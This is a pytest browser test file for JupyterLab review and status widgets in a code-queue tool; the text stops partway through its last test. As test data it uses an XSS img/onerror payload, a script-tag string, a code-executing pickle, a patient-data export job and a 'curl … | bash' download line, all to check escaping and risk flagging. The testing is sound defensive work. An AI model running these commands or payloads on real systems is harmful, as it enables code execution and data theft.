"""The widgets in a real JupyterLab, clicked in a real Chromium.

The owner's buttons must change the owner's ledger through the server API; the data
scientist's status cell must follow a job through its states; nothing a user sent may
become markup.
"""

from __future__ import annotations

import os
import re
import textwrap
from pathlib import Path

import pytest

import syft_code_queue as scq
from syft_code_queue import JobStatus

from .harness import JupyterLab, drive, wait_for, write_notebook

pytestmark = pytest.mark.browser

DS = "ds@example.com"
DO = "do@example.com"
HOSTILE = '<img src=x onerror="document.title=`pwned`">'


def _cell(source: str) -> str:
    return textwrap.dedent(source).strip()


def _package(root: Path, script: str, files: dict[str, str] | None = None) -> Path:
    root.mkdir(parents=True)
    (root / "run.sh").write_text(script)
    for name, text in (files or {}).items():
        (root / name).write_text(text)
    return root


def _owner_notebook(path: Path, syftbox: Path, *cells: str) -> Path:
    return write_notebook(
        path,
        [
            _cell(
                f"""
                import syft_code_queue as scq

                # isolation="none": the review table must show what is then not enforced
                server = scq.create_server(
                    email={DO!r}, syftbox_dir={str(syftbox)!r}, isolation="none"
                )
                server.list_pending_jobs()
                """
            ),
            *cells,
        ],
    )


ROW = 'tr.scq-row[data-uid="{}"]'.format
LOG = "document.querySelector('.scq-status .scq-log')"


def test_owner_reviews_and_decides_in_the_table(lab: JupyterLab, screenshot_dir: Path) -> None:
    syftbox = lab.root / "owner-review" / "SyftBox"
    syftbox.mkdir(parents=True)
    ds = scq.create_client(email=DS, syftbox_dir=syftbox)
    code = _package(
        lab.root / "owner-review" / "code",
        "echo hi\n",
        {"analyze.py": "print('<script>alert(1)</script>')\n"},
    )
    jobs = {
        name: ds.submit_code(DO, code, name=name, tags=["cohort"])
        for name in ("approve me", HOSTILE, "bulk one", "bulk two")
    }
    uid = {name: str(job.uid) for name, job in jobs.items()}
    nb = _owner_notebook(lab.root / "owner-review" / "review.ipynb", syftbox)
    row = ROW
    results = drive(
        lab,
        nb,
        [
            {"op": "run_all"},
            {"op": "wait", "selector": row(uid[HOSTILE])},
            {"op": "count", "selector": ".scq-review tr.scq-row", "name": "rows"},
            {"op": "count", "selector": ".scq-review img", "name": "images"},
            {"op": "text", "selector": f"{row(uid[HOSTILE])} .scq-name", "name": "hostile"},
            {"op": "eval", "expression": "document.title", "name": "title"},
            {
                "op": "attr",
                "selector": f"{row(uid['approve me'])} .scq-select",
                "attribute": "aria-label",
                "name": "select_label",
            },
            # read the files of one job: run.sh opens first, focus moves into the panel
            {"op": "click", "selector": f"{row(uid['approve me'])} .scq-open"},
            {"op": "wait_text", "selector": ".scq-viewer-path", "text": "run.sh"},
            {
                "op": "eval",
                "expression": "document.activeElement.className",
                "name": "focus_after_open",
            },
            {
                "op": "attr",
                "selector": f"{row(uid['approve me'])} .scq-open",
                "attribute": "aria-expanded",
                "name": "expanded",
            },
            {"op": "texts", "selector": ".scq-detail .scq-file-name", "name": "files"},
            # the next file, from the keyboard
            {"op": "press", "selector": '.scq-file-button[data-path="run.sh"]', "key": "ArrowDown"},
            {"op": "wait_text", "selector": ".scq-viewer-path", "text": "analyze.py"},
            {"op": "text", "selector": ".scq-code", "name": "code"},
            {"op": "count", "selector": ".scq-code script", "name": "scripts"},
            {"op": "wait", "selector": ".scq-viewed:nth-of-type(1):checked"},
            {"op": "count", "selector": ".scq-detail .scq-viewed:checked", "name": "viewed"},
            {
                "op": "eval",
                "expression": "[...document.querySelectorAll('.scq-guarantees .scq-not-enforced')]"
                ".map((n) => n.textContent)",
                "name": "unenforced",
            },
            # close: focus goes back to Open
            {"op": "press", "selector": ".scq-code", "key": "Escape"},
            {"op": "wait", "selector": ".scq-detail", "state": "detached"},
            {
                "op": "eval",
                "expression": "document.activeElement.getAttribute('aria-label')",
                "name": "focus_after_close",
            },
            # decide one by one, each in its own prompt
            {"op": "click", "selector": f"{row(uid['approve me'])} .scq-approve"},
            {"op": "count", "selector": ".scq-prompt .scq-unread-confirm", "name": "unread_read"},
            {"op": "text", "selector": ".scq-prompt .scq-confirm", "name": "approve_label"},
            {"op": "click", "selector": ".scq-prompt .scq-confirm"},
            {"op": "wait_text", "selector": ".scq-notice", "text": "approved 1 job"},
            {"op": "click", "selector": f"{row(uid[HOSTILE])} .scq-reject"},
            {
                "op": "eval",
                "expression": "document.querySelector('.scq-prompt .scq-confirm').disabled",
                "name": "reject_without_reason",
            },
            {"op": "fill", "selector": ".scq-prompt .scq-prompt-text", "text": "prints raw rows"},
            {"op": "click", "selector": ".scq-prompt .scq-confirm"},
            {"op": "wait_text", "selector": ".scq-notice", "text": "rejected 1 job"},
            {"op": "count", "selector": ".scq-prompt", "name": "prompts_after"},
            # decide on many at once: names listed, unread confirmed
            {"op": "check", "selector": ".scq-select-all"},
            {"op": "text", "selector": ".scq-bulk-count", "name": "bulk_count"},
            {"op": "click", "selector": ".scq-bulk-approve"},
            {"op": "text", "selector": ".scq-prompt-names", "name": "bulk_names"},
            {
                "op": "eval",
                "expression": "document.querySelector('.scq-prompt .scq-confirm').disabled",
                "name": "unconfirmed_disabled",
            },
            {"op": "check", "selector": ".scq-prompt .scq-unread-confirm"},
            {"op": "click", "selector": ".scq-prompt .scq-confirm"},
            {"op": "wait_text", "selector": ".scq-notice", "text": "approved 2 jobs"},
            {"op": "wait", "selector": row(uid["bulk two"]), "state": "detached"},
            {"op": "text", "selector": ".scq-bulk-count", "name": "bulk_after"},
            # all jobs show their decisions
            {"op": "select", "selector": ".scq-filter", "value": "all"},
            {"op": "wait", "selector": f"{row(uid['bulk two'])} .scq-badge"},
            {"op": "texts", "selector": ".scq-review tr.scq-row .scq-badge", "name": "badges"},
            {"op": "fill", "selector": ".scq-search", "text": "bulk"},
            {"op": "wait", "selector": row(uid[HOSTILE]), "state": "detached"},
            {"op": "count", "selector": ".scq-review tr.scq-row", "name": "found"},
            # a reload of the page draws the table again from the kernel: decisions stay
            {"op": "reload"},
            {"op": "wait", "selector": ".scq-review"},
            {"op": "wait", "selector": f"{row(uid['bulk two'])} .scq-badge"},
            {"op": "texts", "selector": ".scq-review tr.scq-row .scq-badge", "name": "reloaded"},
        ],
        screenshot_dir=screenshot_dir,
    )
    assert results["rows"] == 4
    assert results["images"] == 0
    assert results["hostile"].startswith(HOSTILE)
    assert results["title"] != "pwned"
    assert results["select_label"] == "Select 'approve me'"
    assert "scq-detail-title" in results["focus_after_open"]
    assert results["expanded"] == "true"
    assert results["files"] == ["run.sh", "analyze.py"]
    assert "print('<script>alert(1)</script>')" in results["code"]
    assert results["scripts"] == 0
    assert results["viewed"] == 2
    assert any(text.startswith("NOT ENFORCED") for text in results["unenforced"])  # no sandbox
    assert results["focus_after_close"] == "Open 'approve me'"
    assert results["unread_read"] == 0
    assert results["approve_label"] == "Approve 'approve me'"
    assert results["reject_without_reason"] is True
    assert results["prompts_after"] == 0
    assert results["bulk_count"] == "2 selected"
    assert "'bulk one'" in results["bulk_names"]
    assert "'bulk two'" in results["bulk_names"]
    assert results["unconfirmed_disabled"] is True
    assert results["bulk_after"] == "0 selected"
    assert sorted(results["badges"]) == ["approved", "approved", "approved", "rejected"]
    assert results["found"] == 2
    assert sorted(results["reloaded"]) == ["approved", "approved"]  # the search stays
    assert results.console == []
    assert results.dialogs == []
    # The buttons went through the owner's server: what the data scientist now sees.
    seen = {name: ds.get_job(job.uid) for name, job in jobs.items()}
    assert seen["approve me"].status is JobStatus.approved
    assert seen["approve me"].decision_reason is None
    assert seen[HOSTILE].status is JobStatus.rejected
    assert seen[HOSTILE].error_message == "prints raw rows"
    for name in ("bulk one", "bulk two"):
        assert seen[name].status is JobStatus.approved
        # The rejection's reason stayed with the rejection (it used to go with approvals);
        # what was approved unread is the owner's record, not the requester's.
        assert seen[name].decision_reason is None


def test_a_search_that_hides_selected_rows_deselects_them(
    lab: JupyterLab, screenshot_dir: Path
) -> None:
    syftbox = lab.root / "owner-search" / "SyftBox"
    syftbox.mkdir(parents=True)
    ds = scq.create_client(email=DS, syftbox_dir=syftbox)
    code = _package(lab.root / "owner-search" / "code", "echo hi\n")
    uid = {
        name: str(ds.submit_code(DO, code, name=name).uid) for name in ("alpha", "beta", "gamma")
    }
    nb = _owner_notebook(lab.root / "owner-search" / "review.ipynb", syftbox)
    results = drive(
        lab,
        nb,
        [
            {"op": "run_all"},
            {"op": "check", "selector": f"{ROW(uid['alpha'])} .scq-select"},
            {"op": "check", "selector": f"{ROW(uid['beta'])} .scq-select"},
            {
                "op": "eval",
                "expression": "document.querySelector('.scq-bulk-count')?.textContent",
                "name": "before",
            },
            {"op": "fill", "selector": ".scq-search", "text": "gamma"},
            {"op": "wait", "selector": ROW(uid["alpha"]), "state": "detached"},
            {
                "op": "eval",
                "expression": "document.querySelector('.scq-bulk-approve').disabled",
                "name": "approve_disabled",
            },
            {
                "op": "eval",
                "expression": "document.querySelector('.scq-bulk-count')?.textContent",
                "name": "hidden",
            },
            {"op": "fill", "selector": ".scq-search", "text": ""},
            {"op": "wait", "selector": ROW(uid["alpha"])},
            {
                "op": "eval",
                "expression": "document.querySelector('.scq-bulk-count')?.textContent",
                "name": "shown_again",
            },
            # sorting by a column header (twice: descending), grouping by requester
            {"op": "click", "selector": '.scq-sort[data-sort="name"]'},
            {"op": "click", "selector": '.scq-sort[data-sort="name"]'},
            {"op": "wait_text", "selector": "tr.scq-row:first-child .scq-name", "text": "gamma"},
            {
                "op": "attr",
                "selector": "th:has(.scq-sort[data-sort='name'])",
                "attribute": "aria-sort",
                "name": "sorted",
            },
            {"op": "texts", "selector": "tr.scq-row .scq-name", "name": "by_name"},
            {"op": "check", "selector": ".scq-group-toggle"},
            {"op": "wait", "selector": "tr.scq-group th"},
            {"op": "texts", "selector": "tr.scq-group th", "name": "groups"},
            {
                "op": "attr",
                "selector": f"{ROW(uid['alpha'])} time",
                "attribute": "title",
                "name": "exact_time",
            },
        ],
        screenshot_dir=screenshot_dir,
    )
    assert results["approve_disabled"] is True  # it stayed active with nothing shown
    assert results.get("before") == "2 selected"
    assert results.get("hidden") == "0 selected"
    assert results.get("shown_again") == "0 selected"
    assert results["sorted"] == "descending"
    assert results["by_name"] == ["gamma", "beta", "alpha"]
    assert results["groups"] == [DS]
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC", results["exact_time"])
    assert results.console == []


def test_a_new_arrival_patches_the_table_and_keeps_scroll_panel_and_focus(
    lab: JupyterLab, screenshot_dir: Path
) -> None:
    """A new submission used to rebuild the table: the code viewer went back to line 1 and
    focus dropped to <body>."""
    import threading

    base = lab.root / "in-place"
    syftbox = base / "SyftBox"
    syftbox.mkdir(parents=True)
    ds = scq.create_client(email=DS, syftbox_dir=syftbox)
    long_code = "".join(f"total_{i} = {i} * 2  # line {i}\n" for i in range(300))
    code = _package(base / "code", "python3 analyze.py\n", {"analyze.py": long_code})
    first = str(ds.submit_code(DO, code, name="first").uid)
    flag = base / "ticked"
    nb = write_notebook(
        base / "review.ipynb",
        [
            _cell(
                f"""
                from pathlib import Path
                import syft_code_queue as scq

                server = scq.create_server(email={DO!r}, syftbox_dir={str(syftbox)!r})
                review = server.review_widget(interval=0.2)
                # A "viewed" tick from the browser lets the test submit the next job.
                review.on_msg(
                    lambda _w, content, _b: content.get("action") == "viewed"
                    and Path({str(flag)!r}).touch()
                )
                review
                """
            )
        ],
    )
    arrived: list[str] = []

    def submit_when_ticked() -> None:
        wait_for(flag.exists, timeout=90, message="the viewed tick")
        arrived.append(str(ds.submit_code(DO, code, name="second").uid))

    submitter = threading.Thread(target=submit_when_ticked, daemon=True)
    submitter.start()
    tick = '.scq-file[data-path="analyze.py"] .scq-viewed'
    results = drive(
        lab,
        nb,
        [
            {"op": "run_all"},
            {"op": "click", "selector": f"{ROW(first)} .scq-open"},
            {"op": "wait_text", "selector": ".scq-viewer-path", "text": "run.sh"},
            {"op": "click", "selector": '.scq-file-button[data-path="analyze.py"]'},
            {"op": "wait_text", "selector": ".scq-viewer-path", "text": "analyze.py"},
            {
                "op": "eval",
                "expression": "(() => { const code = document.querySelector('.scq-code'); "
                "code.scrollTop = 600; window.scqCode = code; "
                f"window.scqRow = document.querySelector('{ROW(first)}'); "
                "return code.scrollTop; })()",
                "name": "scrolled",
            },
            {"op": "press", "selector": tick, "key": "Space"},
            {"op": "wait", "selector": "tr.scq-row:nth-child(n+3)"},  # the second job's row
            {
                "op": "eval",
                "name": "after",
                "expression": "(() => { const code = document.querySelector('.scq-code'); "
                f"const tick = document.querySelector('{tick}'); "
                f"return {{same_row: window.scqRow === document.querySelector('{ROW(first)}'), "
                "same_code: window.scqCode === code, scroll: code.scrollTop, "
                "focus_kept: document.activeElement === tick, "
                "rows: document.querySelectorAll('tr.scq-row').length, "
                "open: Boolean(document.querySelector('.scq-detail')) }; })()",
            },
        ],
        screenshot_dir=screenshot_dir,
    )
    submitter.join(timeout=5)
    assert arrived
    assert results["scrolled"] > 0
    assert results["after"] == {
        "same_row": True,
        "same_code": True,
        "scroll": results["scrolled"],
        "focus_kept": True,
        "rows": 2,
        "open": True,
    }
    assert results.console == []


def test_status_cell_follows_a_job_to_its_results(lab: JupyterLab, screenshot_dir: Path) -> None:
    base = lab.root / "ds-status"
    syftbox = base / "SyftBox"
    data = base / "data"
    syftbox.mkdir(parents=True)
    data.mkdir()
    code = _package(
        base / "code",
        'echo "started <b>"\n'
        'for i in $(seq 1 99); do echo "line $i"; done\n'
        'while [ ! -e "$DATA_DIR/release" ]; do sleep 0.05; done\n'
        'for i in $(seq 100 199); do echo "line $i"; done\n'
        'echo 42 > "$OUTPUT_DIR/result.txt"\n'
        "echo done\n",
    )
    nb = write_notebook(
        base / "status.ipynb",
        [
            _cell(
                f"""
                from pathlib import Path
                import syft_code_queue as scq

                client = scq.create_client(email={DS!r}, syftbox_dir={str(syftbox)!r})
                job = client.submit_code({DO!r}, {str(code)!r}, name="follow me")
                Path({str(base / "uid.txt")!r}).write_text(str(job.uid))
                cell = client.status_widget(job.uid, interval=0.2)
                # The Refresh button lets the job finish, so the test sees it running first.
                cell.on_msg(
                    lambda _w, content, _b: content.get("action") == "refresh"
                    and Path({str(data / "release")!r}).touch()
                )
                cell
                """
            )
        ],
    )
    with scq.create_server(
        email=DO, syftbox_dir=syftbox, job_data_dir=data, poll_interval=0.1
    ) as server:
        server.start()

        def approve_when_received() -> bool:
            pending = server.list_pending_jobs()
            for job in pending:
                server.approve_job(job.uid)
            return bool(pending)

        import threading

        approver = threading.Thread(
            target=wait_for,
            args=(approve_when_received,),
            kwargs={"timeout": 60, "message": "the job to arrive"},
            daemon=True,
        )
        approver.start()
        results = drive(
            lab,
            nb,
            [
                {"op": "run_all"},
                {"op": "wait", "selector": '.scq-status .scq-badge[data-status="running"]'},
                {"op": "wait_text", "selector": ".scq-status .scq-log", "text": "started <b>"},
                {"op": "count", "selector": ".scq-status .scq-log b", "name": "bold"},
                {"op": "text", "selector": ".scq-status .scq-watching", "name": "while_running"},
                # the log follows its end, and stays where the reader scrolled to
                {"op": "wait_text", "selector": ".scq-status .scq-log", "text": "line 99"},
                {
                    "op": "eval",
                    "name": "at_end",
                    "expression": f"(() => {{ const log = {LOG}; window.scqLog = log; "
                    "return log.scrollTop + log.clientHeight >= log.scrollHeight - 4; })()",
                },
                {"op": "eval", "expression": f"{LOG}.scrollTop = 0"},
                {"op": "click", "selector": ".scq-status .scq-refresh"},
                {"op": "wait", "selector": '.scq-status .scq-badge[data-status="completed"]'},
                {"op": "wait_text", "selector": ".scq-status .scq-watching", "text": "up to date"},
                {"op": "wait_text", "selector": ".scq-status .scq-log", "text": "done"},
                {
                    "op": "eval",
                    "name": "same_log",
                    "expression": f"[window.scqLog === {LOG}, {LOG}.scrollTop]",
                },
                {"op": "texts", "selector": ".scq-status .scq-output-name", "name": "outputs"},
                {"op": "texts", "selector": ".scq-status .scq-times dt", "name": "steps"},
                {"op": "text", "selector": ".scq-status .scq-elapsed", "name": "elapsed"},
                {"op": "click", "selector": ".scq-status .scq-held summary"},
                {"op": "texts", "selector": ".scq-status .scq-held dt", "name": "held"},
            ],
            screenshot_dir=screenshot_dir,
        )
        approver.join(timeout=5)
    assert results["bold"] == 0
    assert results["while_running"] == "following…"
    assert results["at_end"] is True
    assert results["same_log"] == [True, 0]  # patched in place, kept where the reader was
    assert results["outputs"] == ["result.txt"]
    assert results["steps"] == ["submitted", "received", "decided", "started", "ended"]
    assert results["elapsed"].endswith("s")
    assert results["held"] == [
        "network",
        "filesystem",
        "processes",
        "memory",
        "process count",
        "cpu and files",
        "time",
        "logs",
        "output",
        "dependencies",
    ]
    assert results.console == []
    uid = (base / "uid.txt").read_text()
    assert scq.create_client(email=DS, syftbox_dir=syftbox).get_job(uid).status is (
        JobStatus.completed
    )


THEMES = {
    "light": "JupyterLab Light",
    "dark": "JupyterLab Dark",
    "high-contrast": "JupyterLab Dark High Contrast",
}


def _png(width: int = 96, height: int = 32) -> bytes:
    """A small gradient PNG, made with zlib (no imaging library needed)."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    rows = b"".join(
        b"\0" + bytes(v for x in range(width) for v in (x * 255 // width, 90, 200 - y * 4))
        for y in range(height)
    )
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def _queue_with_every_state(base: Path) -> tuple[Path, dict[str, str]]:
    """A queue holding a pending, a rejected, a completed (with outputs) and a failed job."""
    import base64
    import pickle

    from tests.conftest import run_until

    syftbox = base / "SyftBox"
    syftbox.mkdir(parents=True)
    ds = scq.create_client(email=DS, syftbox_dir=syftbox)
    analysis = {
        "analyze.py": "import csv  # aggregate only\n"
        "rows = []\n"
        "def mean(values: list[float]) -> float:\n"
        '    """The average."""\n'
        "    return sum(values) / max(1, len(values))\n"
        "print(f'mean age: {mean([41.0, 37.5]):.1f}', 42)\n"
    }
    png = base64.b64encode(_png()).decode()
    scripts = {
        "Cohort statistics": 'echo "rows: 3"\npython3 analyze.py\n',
        "Export rows": "cat /data/patients.csv\n",
        "Model fit": 'printf "age,n\\n40-49,12\\n50-59,9\\n" > "$OUTPUT_DIR/summary.csv"\n'
        f'echo "{png}" | base64 -d > "$OUTPUT_DIR/plot.png"\n'
        'for i in $(seq 1 60); do echo "step $i"; done\necho fitted\n',
        "Broken": 'echo "loading"\necho "KeyError: \'age\'" >&2\nexit 1\n',
    }
    assert png
    uids = {}
    for name, script in scripts.items():
        code = _package(base / "code" / name.replace(" ", "-"), script, analysis)
        if name == "Cohort statistics":  # weights that run code when loaded
            (code / "model.pkl").write_bytes(pickle.dumps({"weights": [0.5, 1.5], "os": "system"}))
        uids[name] = str(ds.submit_code(DO, code, name=name, tags=["cohort"]).uid)
    with scq.create_server(email=DO, syftbox_dir=syftbox) as server:
        server.list_pending_jobs()
        server.reject_job(uids["Export rows"], "Row-level export of patient data is not allowed.")
        for name in ("Model fit", "Broken"):
            server.approve_job(uids[name])
        run_until(
            server,
            lambda: all(server.get_job(uids[n]).is_terminal for n in ("Model fit", "Broken")),
            timeout=60,
        )
    return syftbox, uids


def test_both_widgets_read_well_in_every_theme(lab: JupyterLab, screenshot_dir: Path) -> None:
    """Screenshots in light, dark and high-contrast themes and at 500 px, each checked by
    axe-core (WCAG 2 A/AA: names, roles, ARIA) and by the driver's contrast check (every
    text shown at least 4.5:1 against what it is painted on)."""
    base = lab.root / "themes"
    syftbox, uids = _queue_with_every_state(base)
    nb = write_notebook(
        base / "themes.ipynb",
        [
            _cell(
                f"""
                import syft_code_queue as scq

                server = scq.create_server(email={DO!r}, syftbox_dir={str(syftbox)!r})
                review = server.review_widget()
                review.view = {{**review.view, "status": "all", "desc": True}}
                review
                """
            ),
            _cell(
                f"""
                client = scq.create_client(email={DS!r}, syftbox_dir={str(syftbox)!r})
                client.list_jobs()
                """
            ),
        ],
    )
    # SCQ_SCREENSHOTS keeps them (the README's come from here); else the test's temp dir.
    shots = Path(os.environ.get("SCQ_SCREENSHOTS") or screenshot_dir)
    shots.mkdir(parents=True, exist_ok=True)
    steps: list[dict[str, object]] = [
        {"op": "run_all"},
        {"op": "wait", "selector": ROW(uids["Broken"])},
        {"op": "wait", "selector": ".scq-status .scq-stderr"},
        {"op": "click", "selector": f"{ROW(uids['Cohort statistics'])} .scq-open"},
        {"op": "wait_text", "selector": ".scq-viewer-path", "text": "run.sh"},
        # a finished job's long log, drawn at once, shows its end
        {
            "op": "eval",
            "name": "log_end",
            "expression": "(() => { const log = document.querySelector("
            f"'.scq-card[data-uid=\"{uids['Model fit']}\"] .scq-log'); "
            "return [log.scrollHeight > log.clientHeight, "
            "log.scrollTop + log.clientHeight >= log.scrollHeight - 4]; })()",
        },
        # a binary file: its bytes and a warning, never just "not shown"
        {"op": "click", "selector": '.scq-file-button[data-path="model.pkl"]'},
        {"op": "wait_text", "selector": ".scq-viewer-path", "text": "model.pkl"},
        {"op": "text", "selector": ".scq-viewer .scq-warning", "name": "binary_warning"},
        {"op": "text", "selector": ".scq-viewer .scq-hex", "name": "hex"},
        {"op": "text", "selector": ".scq-viewer .scq-strings", "name": "strings"},
        {"op": "text", "selector": ".scq-file-button[data-path='model.pkl']", "name": "risky"},
        # approving it asks to confirm what was not read
        {"op": "click", "selector": f"{ROW(uids['Cohort statistics'])} .scq-approve"},
        {"op": "text", "selector": ".scq-prompt-warning", "name": "unread_warning"},
        {"op": "click", "selector": ".scq-prompt .scq-cancel"},
        {"op": "click", "selector": '.scq-file-button[data-path="analyze.py"]'},
        {"op": "wait_text", "selector": ".scq-viewer-path", "text": "analyze.py"},
        # tall enough for the whole status cell: a screenshot of it is not cut by the page
        {"op": "viewport", "width": 1280, "height": 1700},
    ]
    for slug, theme in THEMES.items():
        steps += [
            {"op": "theme", "theme": theme},
            {"op": "axe", "selector": ".scq-widget", "name": f"axe-{slug}"},
            {"op": "contrast", "selector": ".scq-widget", "name": f"contrast-{slug}"},
            {
                "op": "eval",
                "name": f"code-{slug}",
                "expression": "(() => { const id = document.querySelector('.scq-code .t-com'); "
                "const code = document.querySelector('.scq-code'); "
                "return [getComputedStyle(code).backgroundColor, getComputedStyle(code).color, "
                "getComputedStyle(id).color]; })()",
            },
            {
                "op": "screenshot",
                "selector": ".scq-review",
                "path": str(shots / f"review-{slug}.png"),
            },
            {
                "op": "screenshot",
                "selector": ".scq-status",
                "path": str(shots / f"status-{slug}.png"),
            },
        ]
    steps += [
        {"op": "theme", "theme": THEMES["light"]},
        {
            "op": "eval",
            "expression": "window.jupyterapp.shell.collapseLeft(); "
            "window.jupyterapp.shell.collapseRight(); true",
        },
        {"op": "viewport", "width": 616, "height": 900},
        {
            "op": "eval",
            "name": "width-narrow",
            # the lab lays out again after a resize: wait (up to 10 s) until it fits the window
            "expression": "new Promise((done) => { const until = Date.now() + 10000; "
            "const look = () => { const w = document.querySelector('.scq-review')"
            ".getBoundingClientRect().width; "
            "if (w <= window.innerWidth || Date.now() > until) done(w); "
            "else requestAnimationFrame(look); }; look(); })",
        },
        {"op": "axe", "selector": ".scq-widget", "name": "axe-500px"},
        {"op": "contrast", "selector": ".scq-widget", "name": "contrast-500px"},
        {
            "op": "eval",
            "name": "overflow-500px",
            "expression": "(() => { const r = document.querySelector('.scq-review'); "
            "const a = r.querySelector('.scq-actions'); "
            "return [r.getBoundingClientRect().right, a.getBoundingClientRect().right]; })()",
        },
        {"op": "screenshot", "selector": ".scq-review", "path": str(shots / "review-500px.png")},
    ]
    results = drive(lab, nb, steps, timeout_s=240, screenshot_dir=screenshot_dir)
    for name in [*THEMES, "500px"]:
        contrast = results[f"contrast-{name}"]
        assert contrast["failures"] == [], f"{name}: {contrast}"
        assert contrast["checked"] > 80  # both widgets' texts, code tokens included
        found = results[f"axe-{name}"]
        serious = [v for v in found["violations"] if v["impact"] in ("serious", "critical")]
        assert serious == [], f"{name}: {serious}"
        assert "color-contrast" in found["passes"], f"{name}: contrast was not checked"
        unsure = [v for v in found["incomplete"] if v["impact"] in ("serious", "critical")]
        assert unsure == [], f"{name}: axe could not decide: {unsure}"
    assert results["log_end"] == [True, True]
    assert "loading it can run any code" in results["binary_warning"]
    assert results["hex"].startswith("00000000  80 0")
    assert "weights" in results["strings"]
    assert results["risky"].startswith("model.pkl")
    assert "⚠" in results["risky"]
    assert "'Cohort statistics'" in results["unread_warning"]
    light, dark = results["code-light"], results["code-dark"]
    assert light[0] != dark[0]  # the viewer's background follows the theme
    assert light[1] != dark[1]
    assert 480 <= results["width-narrow"] <= 520  # the widget itself is about 500 px wide
    review_right, actions_right = results["overflow-500px"]
    assert actions_right <= review_right + 1  # the actions stay on screen at 500 px
    for slug in THEMES:
        assert (shots / f"review-{slug}.png").stat().st_size > 0
    assert results.console == []


def _narrow(view: str, shots: Path) -> list[dict[str, object]]:
    """The widget about 500 px wide (side panels collapsed), checked by axe and the
    contrast check as ``axe-<view>-500px`` and ``contrast-<view>-500px``, with a
    screenshot."""
    return [
        {
            "op": "eval",
            "expression": "window.jupyterapp.shell.collapseLeft(); "
            "window.jupyterapp.shell.collapseRight(); true",
        },
        {"op": "viewport", "width": 616, "height": 1400},
        {
            "op": "eval",
            "name": f"width-{view}",
            "expression": "new Promise((done) => { const until = Date.now() + 10000; "
            "const look = () => { const w = document.querySelector('.scq-review')"
            ".getBoundingClientRect().width; "
            "if (w <= window.innerWidth || Date.now() > until) done(w); "
            "else requestAnimationFrame(look); }; look(); })",
        },
        {"op": "axe", "selector": ".scq-widget", "name": f"axe-{view}-500px"},
        {"op": "contrast", "selector": ".scq-widget", "name": f"contrast-{view}-500px"},
        {
            "op": "screenshot",
            "selector": ".scq-review",
            "path": str(shots / f"{view}-500px.png"),
        },
    ]


def test_a_new_version_opens_on_its_diff_with_flagged_lines(
    lab: JupyterLab, screenshot_dir: Path
) -> None:
    """v1 approved, v2 with run.sh changed to pipe a download into bash: the row says what
    changed since v1, Open shows the diff first, and the flagged line has a gutter mark with
    its message, readable (axe, contrast) in the light, dark and high-contrast themes and at
    500 px."""
    base = lab.root / "diff-review"
    syftbox = base / "SyftBox"
    syftbox.mkdir(parents=True)
    ds = scq.create_client(email=DS, syftbox_dir=syftbox)
    files = {f"part{i}.py": f"print({i})\n" for i in range(1, 6)}
    files["README.md"] = "Cohort statistics, aggregated.\n"
    v1 = ds.submit_code(DO, _package(base / "v1", 'echo "rows: 3"\n', files), name="Cohort")
    with scq.create_server(email=DO, syftbox_dir=syftbox, isolation="none") as server:
        server.list_pending_jobs()
        server.approve_job(v1.uid)
    script = 'echo "rows: 3"\ncurl -s https://example.com/setup.sh | bash\n'
    v2 = ds.submit_code(DO, _package(base / "v2", script, files), name="Cohort", supersedes=v1.uid)
    nb = _owner_notebook(base / "diff.ipynb", syftbox, "server.review_widget()")
    row = ROW(str(v2.uid))
    flagged = "document.querySelector('.scq-code .scq-flag')"
    steps: list[dict[str, object]] = [
        {"op": "run_all"},
        {"op": "wait_text", "selector": f"{row} .scq-changes", "text": "changed since"},
        {"op": "text", "selector": f"{row} .scq-changes", "name": "row_changes"},
        {"op": "wait_text", "selector": f"{row} .scq-hints", "text": "warn"},
        {"op": "text", "selector": f"{row} .scq-hints", "name": "row_hints"},
        {"op": "click", "selector": f"{row} .scq-open"},
        {"op": "wait", "selector": ".scq-diff-view .scq-diff-file"},
        {"op": "text", "selector": ".scq-diff-summary", "name": "summary"},
        {"op": "texts", "selector": ".scq-diff-file .scq-diff-path", "name": "changed"},
        {"op": "texts", "selector": ".scq-diff-file .scq-change", "name": "kinds"},
        {"op": "texts", "selector": ".scq-diff-add", "name": "added"},
        {"op": "count", "selector": ".scq-unchanged li", "name": "unchanged"},
        {
            "op": "eval",
            "name": "viewer_hidden",
            "expression": "document.querySelector('.scq-detail .scq-viewer').hidden",
        },
    ]
    shots = Path(os.environ.get("SCQ_SCREENSHOTS") or screenshot_dir)
    shots.mkdir(parents=True, exist_ok=True)
    for slug, theme in THEMES.items():
        steps += [
            {"op": "theme", "theme": theme},
            {"op": "axe", "selector": ".scq-widget", "name": f"axe-diff-{slug}"},
            {"op": "contrast", "selector": ".scq-widget", "name": f"contrast-diff-{slug}"},
            {
                "op": "screenshot",
                "selector": ".scq-review",
                "path": str(shots / f"diff-{slug}.png"),
            },
        ]
    steps += [{"op": "theme", "theme": THEMES["light"]}, *_narrow("diff", shots)]
    steps += [
        {"op": "viewport", "width": 1280, "height": 900},
        {"op": "click", "selector": ".scq-mode-files"},
        {"op": "wait_text", "selector": ".scq-viewer-path", "text": "run.sh"},
        {"op": "wait", "selector": ".scq-code .scq-flag"},
        {
            "op": "eval",
            "name": "flag",
            "expression": f"(() => {{ const line = {flagged}; "
            "const lines = [...line.parentNode.querySelectorAll(':scope > .scq-line')]; "
            "return [lines.indexOf(line) + 1, line.className, line.title, "
            "line.querySelector('.scq-visually-hidden').textContent]; })()",
        },
        {"op": "text", "selector": ".scq-hint-list", "name": "hint_list"},
        {"op": "text", "selector": '.scq-file[data-path="run.sh"] .scq-file-meta', "name": "meta"},
    ]
    for slug, theme in THEMES.items():
        steps += [
            {"op": "theme", "theme": theme},
            {"op": "axe", "selector": ".scq-widget", "name": f"axe-file-{slug}"},
            {"op": "contrast", "selector": ".scq-widget", "name": f"contrast-file-{slug}"},
            {
                "op": "screenshot",
                "selector": ".scq-review",
                "path": str(shots / f"flags-{slug}.png"),
            },
        ]
    steps += [{"op": "theme", "theme": THEMES["light"]}, *_narrow("file", shots)]
    results = drive(lab, nb, steps, timeout_s=240, screenshot_dir=screenshot_dir)
    assert results["row_changes"] == "v2 · changed since approved v1: 1 of 7 files"
